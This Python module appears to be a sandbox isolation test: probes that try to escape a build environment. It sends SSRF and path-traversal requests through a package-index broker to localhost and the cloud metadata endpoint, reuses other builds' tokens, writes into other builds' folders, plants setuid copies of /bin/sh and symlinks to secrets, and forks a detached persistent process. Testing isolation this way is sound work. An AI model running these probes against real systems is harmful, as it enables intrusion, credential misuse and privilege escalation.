"""Attacks of a build script alone: its index and broker, other builds, what it leaves behind.
Nothing of it is done in a session."""

import os
import pathlib
import socket
import subprocess
import sys
import urllib.parse

from attack import got, unless


def _places():
    """The folders that a build can write."""
    names = ("UV_CACHE_DIR", "HOME", "TMPDIR")
    return [pathlib.Path(os.environ.get(name, "/tmp")) for name in names] + [pathlib.Path.cwd()]


def _ask(host, port, head):
    with socket.create_connection((host, port), 3) as it:
        it.sendall(head.encode())
        return it.recv(4096).decode(errors="replace")


@unless("network")
def try_the_index_without_its_broker(target):
    if target["build"]:
        host, port = target["build"]["index"].split(":")
        return got([("answered", lambda: _ask(host, int(port), "GET /simple/ HTTP/1.0\r\n\r\n"))])


def try_the_broker_as_a_way_out(target):
    """To the machine's port, to its cloud, to the index by a path of one's own, and with another
    build's token."""
    if not target["build"]:
        return None
    feed = urllib.parse.urlsplit(os.environ["UV_DEFAULT_INDEX"])
    token = feed.path.split("/")[1]
    elsewhere = [f"http://127.0.0.1:{target['port']}/", "http://169.254.169.254/latest/meta-data/", f"http://{target['build']['index']}/files/"]
    paths = [*elsewhere, *(f"{feed.path}{way}" for way in ("../../files/", "..%2f..%2ffiles/", "/".join(elsewhere))), f"/{token}/index/9/simple/x/"]
    paths += [f"/{token[::-1]}{feed.path[len(token) + 1:]}victim/", f"/{token}/file/0/{urllib.parse.quote(elsewhere[0], safe='')}"]
    asked = [f"GET {path} HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n" for path in paths for host in (feed.netloc, f"127.0.0.1:{target['port']}")]
    asked += [f"CONNECT {urllib.parse.urlsplit(url).netloc} HTTP/1.1\r\n\r\n" for url in elsewhere if urllib.parse.urlsplit(url).netloc]

    def answered(head):
        text = _ask(feed.hostname, feed.port, head)
        if " 200 " in text.split("\r\n")[0] + " " or "reached" in text:
            return text
        raise OSError(1, "refused")

    return got((head, lambda head=head: answered(head)) for head in asked)


def try_the_folders_of_other_builds(target):
    if target["build"]:
        folders = target["build"]["others"]
        found = got((path, lambda path=path: os.listdir(path)) for path in folders)
        return found + got((path, lambda path=path: open(os.path.join(path, "adversary"), "w").name) for path in folders)


def try_to_leave_files_that_run_as_another(target):
    """Seen from outside."""
    if target["build"]:
        places = [*_places(), pathlib.Path(target["build"]["site"])]
        got((place, lambda place=place: _leave(place / "adversary")) for place in places)


def _leave(path):
    path.write_bytes(pathlib.Path("/bin/sh").read_bytes())
    path.chmod(0o6755)


def try_links_where_others_clean_up(target):
    """The secrets are looked at from outside."""
    if target["build"]:
        links = [(place / f"link-{number}", path) for place in _places() for number, path in enumerate([*target["secrets"], *target["folders"]])]
        got((link, lambda link=link, path=path: link.symlink_to(path)) for link, path in links)


def try_to_stay(target):
    """A process without a parent, a terminal, a group or an open file, which is looked for from
    outside."""
    if target["build"]:
        text = "import os, sys, time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\ntime.sleep(600)"
        subprocess.run([sys.executable, "-I", "-c", text, target["build"]["marker"]], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
